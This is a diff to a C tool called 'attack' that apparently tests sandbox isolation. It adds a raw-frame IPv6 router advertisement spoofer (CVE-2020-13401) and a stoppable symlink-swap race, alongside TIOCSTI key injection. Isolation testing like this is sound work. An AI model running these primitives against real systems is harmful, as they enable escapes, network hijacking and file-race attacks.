@@ -2,9 +2,15 @@
 // prints what came of it.
 
 #define _GNU_SOURCE
+#include <arpa/inet.h>
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/if_packet.h>
+#include <net/ethernet.h>
+#include <net/if.h>
+#include <netinet/icmp6.h>
+#include <netinet/ip6.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdint.h>
@@ -139,15 +145,63 @@ static int push_keys(const char* keys) {
   return puts("TIOCSTI ALLOWED"), 0;
 }
 
-// Swaps a directory and a symbolic link for ever: `link` leads to `target`.
+// Swaps a directory and a symbolic link until there is a file DIRECTORY.stop: `link` leads to `target`.
 static int swap(const char* directory, const char* target) {
-  char link[4096];
+  char link[4096], stop[4096];
   snprintf(link, sizeof link, "%s.link", directory);
+  snprintf(stop, sizeof stop, "%s.stop", directory);
   if (symlink(target, link) != 0 && errno != EEXIST) return perror("symlink"), 1;
   mkdir(directory, 0755);
   puts("swapping");
   fflush(stdout);
-  for (;;) syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link, 2 /* RENAME_EXCHANGE */);
+  for (unsigned round = 0; round % 256 != 0 || access(stop, F_OK) != 0; ++round)
+    syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link, 2 /* RENAME_EXCHANGE */);
+  return 0;
+}
+
+// A router advertisement for every neighbour, as a frame of its own, so that it needs no IPv6 here (CVE-2020-13401).
+static int advertise(const char* interface) {
+  struct {
+    struct ether_header ethernet;
+    struct ip6_hdr ip;
+    struct nd_router_advert advert;
+    struct nd_opt_prefix_info prefix;
+  } __attribute__((packed)) frame = {0};
+  const uint8_t group[] = {0x33, 0x33, 0, 0, 0, 1}, ours[] = {2, 0, 0, 0, 0, 0x66};
+  memcpy(frame.ethernet.ether_dhost, group, 6);
+  memcpy(frame.ethernet.ether_shost, ours, 6);
+  frame.ethernet.ether_type = htons(ETHERTYPE_IPV6);
+  frame.ip.ip6_flow = htonl(6u << 28);
+  frame.ip.ip6_plen = htons(sizeof frame.advert + sizeof frame.prefix);
+  frame.ip.ip6_nxt = IPPROTO_ICMPV6;
+  frame.ip.ip6_hlim = 255;
+  inet_pton(AF_INET6, "fe80::66", &frame.ip.ip6_src);
+  inet_pton(AF_INET6, "ff02::1", &frame.ip.ip6_dst);
+  frame.advert.nd_ra_type = ND_ROUTER_ADVERT;
+  frame.advert.nd_ra_curhoplimit = 64;
+  frame.advert.nd_ra_router_lifetime = htons(1800);
+  frame.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
+  frame.prefix.nd_opt_pi_len = 4;
+  frame.prefix.nd_opt_pi_prefix_len = 64;
+  frame.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
+  frame.prefix.nd_opt_pi_valid_time = frame.prefix.nd_opt_pi_preferred_time = htonl(3600);
+  inet_pton(AF_INET6, "2001:db8:66::", &frame.prefix.nd_opt_pi_prefix);
+  uint32_t sum = htons(sizeof frame.advert + sizeof frame.prefix) + htons(IPPROTO_ICMPV6);
+  const char* summed = (const char*)&frame.ip.ip6_src;
+  for (size_t i = 0; i < 2 * sizeof(struct in6_addr) + sizeof frame.advert + sizeof frame.prefix; i += 2) {
+    uint16_t word;
+    memcpy(&word, summed + i, 2);
+    sum += word;
+  }
+  while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
+  frame.advert.nd_ra_hdr.icmp6_cksum = (uint16_t)~sum;
+  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(interface), .sll_halen = 6};
+  memcpy(to.sll_addr, group, 6);
+  int raw = socket(AF_PACKET, SOCK_RAW, htons(ETHERTYPE_IPV6));
+  for (int i = 0; i < 5; ++i) {
+    if (sendto(raw, &frame, sizeof frame, 0, (struct sockaddr*)&to, sizeof to) < 0) return perror("sendto"), 1;
+  }
+  return puts("advertised"), 0;
 }
 
 int main(int argc, char** argv) {
@@ -155,7 +209,8 @@ int main(int argc, char** argv) {
   if (argc == 3 && strcmp(argv[1], "watch") == 0) return watch_descriptors(atof(argv[2]));
   if (argc == 3 && strcmp(argv[1], "program") == 0) return overwrite(argv[2]);
   if (argc == 3 && strcmp(argv[1], "keys") == 0) return push_keys(argv[2]);
+  if (argc == 3 && strcmp(argv[1], "advertise") == 0) return advertise(argv[2]);
   if (argc == 4 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3]);
-  fprintf(stderr, "usage: attack calls | watch SECONDS | program FD | keys TEXT | swap DIRECTORY TARGET\n");
+  fprintf(stderr, "usage: attack calls | watch SECONDS | program FD | keys TEXT | advertise INTERFACE | swap DIRECTORY TARGET\n");
   return 2;
 }
